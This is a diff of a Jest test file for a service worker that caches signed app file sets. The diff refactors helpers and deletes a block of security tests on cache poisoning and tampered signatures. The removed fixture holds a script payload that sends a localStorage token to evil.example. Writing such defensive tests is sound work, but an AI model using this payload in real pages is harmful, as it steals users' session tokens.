@@ -1,17 +1,10 @@
 import { beforeEach, describe, expect, jest, test } from '@jest/globals';
-import { signingKey } from '@viewmax/testing/signing-key';
 import { provideCaches } from '../testing/caches.ts';
 import { integrityOf } from '../testing/integrity-of.ts';
-import { startWorker } from '../testing/start-worker.ts';
+import { loads, setNow, startWorker, storeSet } from '../testing/start-worker.ts';
 import { openTestEdge, POLICY } from '../testing/test-edge.ts';
-import type { Wanted } from './stored-files.ts';
 
 const DAY_MS = 86_400_000;
-
-interface Signed {
-  text: string;
-  signature: string;
-}
 
 let stores: ReturnType<typeof provideCaches>;
 let edge: Awaited<ReturnType<typeof openTestEdge>>;
@@ -21,95 +14,19 @@ const shellOf = (version: string, code = 'shell') =>
 const remoteOf = (name: string, version: string, code = `${name} ${version}`) =>
   edge.release(name, version, { 'entry.js': code, 'one.js': `one of ${name}` });
 
-const worker = () => startWorker(async () => new Response('from the network'));
-const storeSet = async (setId?: string, wanted?: Wanted) =>
-  (await worker()).storeSet(setId ? { setId } : undefined, wanted);
-const pageNow = async () => (await (await worker()).madePage('/'))?.text();
-const setNow = async () => /"setId":"(\w+)"/.exec((await pageNow()) ?? '')?.[1];
-const loads = async (path: string) => (await worker()).loads(path);
-
 const filesAsked = () => edge.asked.filter((path) => path.startsWith('/r/'));
 const filesStored = () => [...(stores.get('files')?.keys() ?? [])].map((url) => url.replace(location.origin, ''));
-const poison = (cache: string, path: string, text: string) =>
-  (stores.get(cache) ?? stores.set(cache, new Map()).get(cache))?.set(
-    new URL(path, location.href).href,
-    new Response(text, { headers: { 'content-type': 'text/html' } }),
-  );
-
 beforeEach(async () => {
   stores = provideCaches();
   edge = await openTestEdge();
   await edge.goesLive('a', [shellOf('1.0.0'), remoteOf('catalog', '1.0.0'), remoteOf('wallet', '1.0.0')]);
 });
 
-describe('a hostile page that writes into the caches', () => {
-  const HOSTILE = '<html><script>fetch("https://evil.example/"+localStorage.token)</script>';
-
-  test('gets none of its pages shown', async () => {
-    await storeSet('a');
-    for (const [name, store] of stores) for (const url of store.keys()) poison(name, url, HOSTILE);
-    for (const name of ['set-a', 'notes', 'sets', 'files']) poison(name, '/', HOSTILE);
-    poison('notes', '/present-set', 'set-a');
-    expect(await pageNow()).toBeUndefined();
-  });
-
-  test('gets no entry kept beside the sets', async () => {
-    await storeSet('a');
-    for (const path of ['/', '/img/hostile', '/stored-sets?hostile']) poison('sets', path, HOSTILE);
-    await storeSet('a');
-    expect([...(stores.get('sets')?.keys() ?? [])]).toEqual([new URL('/stored-sets', location.href).href]);
-    expect(await setNow()).toBe('a');
-  });
-
-  test('gets no file used, and the next store of the set mends them', async () => {
-    await storeSet('a');
-    poison('files', '/r/catalog/1.0.0/entry.js', HOSTILE);
-    poison('files', '/r/catalog/1.0.0/one.js', HOSTILE);
-    poison('files', '/r/catalog/1.0.0/own.js', HOSTILE);
-    for (const file of ['entry.js', 'one.js', 'own.js']) {
-      expect(await loads(`/r/catalog/1.0.0/${file}`)).toBe('from the network');
-    }
-    await storeSet();
-    expect(await loads('/r/catalog/1.0.0/entry.js')).toBe('catalog 1.0.0');
-    expect(await loads('/r/catalog/1.0.0/one.js')).toBe('one of catalog');
-    expect(filesStored()).not.toContain('/r/catalog/1.0.0/own.js');
-  });
-
-  test.each([
-    ['a changed letter', async ({ text, signature }: Signed) => ({ text: text.replace('1.0.0', '6.6.6'), signature })],
-    ['a key of its own', async ({ text }: Signed) => ({ text, signature: await (await signingKey('k1')).sign(text) })],
-    ['no text at all', async () => ({})],
-  ])('gets no document used with %s', async (_, change) => {
-    await storeSet('a');
-    poison('sets', '/stored-sets', JSON.stringify([{ ...(await change(edge.live)), at: Date.now() }]));
-    expect(await pageNow()).toBeUndefined();
-  });
-
-  test('gets no preview stored, neither by the worker nor in the store itself', async () => {
-    await storeSet('a');
-    const preview = await edge.goesLive('p', [shellOf('1.0.0'), remoteOf('catalog', '6.6.6')], { preview: true });
-    await expect(storeSet('p')).rejects.toThrow('The set is not signed for this device');
-    const [stored] = JSON.parse(
-      (await stores.get('sets')?.get(`${location.origin}/stored-sets`)?.clone().text()) ?? '',
-    );
-    poison('sets', '/stored-sets', JSON.stringify([{ ...preview, at: Date.now() }, stored]));
-    expect(await setNow()).toBe('a');
-  });
-
-  test('cannot put an older set before the present one', async () => {
-    const older = { ...edge.live, at: Date.now() };
-    await edge.goesLive('b', [shellOf('1.0.0'), remoteOf('catalog', '2.0.0')]);
-    await storeSet('b');
-    poison('sets', '/stored-sets', JSON.stringify([older, { ...edge.live, at: 0 }]));
-    expect(await setNow()).toBe('b');
-  });
-});
-
 describe('a stored set', () => {
   test('starts the app with the policy and the mark of a stored page', async () => {
     await storeSet('a');
     edge.isOffline = true;
-    const page = await (await worker()).madePage('/nowhere');
+    const page = await (await startWorker()).madePage('/nowhere');
     expect(page?.headers.get('content-security-policy')).toBe(POLICY);
     const made = new DOMParser().parseFromString((await page?.text()) ?? '', 'text/html');
     expect(made.documentElement.hasAttribute('data-kept')).toBe(true);
@@ -142,7 +59,7 @@ describe('a stored set', () => {
 
   test('is fetched once for parallel requests, and again after a failure', async () => {
     edge.isOffline = true;
-    const { storeSet } = await worker();
+    const { storeSet } = await startWorker();
     const page = { setId: 'a' };
     await expect(storeSet(page)).rejects.toThrow('Failed to fetch');
     edge.isOffline = false;
@@ -246,7 +163,7 @@ describe('the next set', () => {
   test('gets its stored bytes before it is stored, by the hashes of its page', async () => {
     await storeSet('a');
     const { text } = await edge.goesLive('b', [shellOf('1.0.1', 'new shell'), remoteOf('catalog', '1.0.0')]);
-    const started = await worker();
+    const started = await startWorker();
     const load = started.loads;
     expect(await load('/r/shell/1.0.1/late.js')).toBe('from the network');
     const html = `<script type="application/json" id="discovery">${text}</script>`;
@@ -261,7 +178,7 @@ describe('the next set', () => {
     await storeSet('a');
     const page = new Response('', { headers: { 'x-viewmax-page-set': 'a' } });
     const clone = jest.spyOn(page, 'clone');
-    (await worker()).noteShown(page);
+    (await startWorker()).noteShown(page);
     expect(clone).not.toHaveBeenCalled();
   });
 
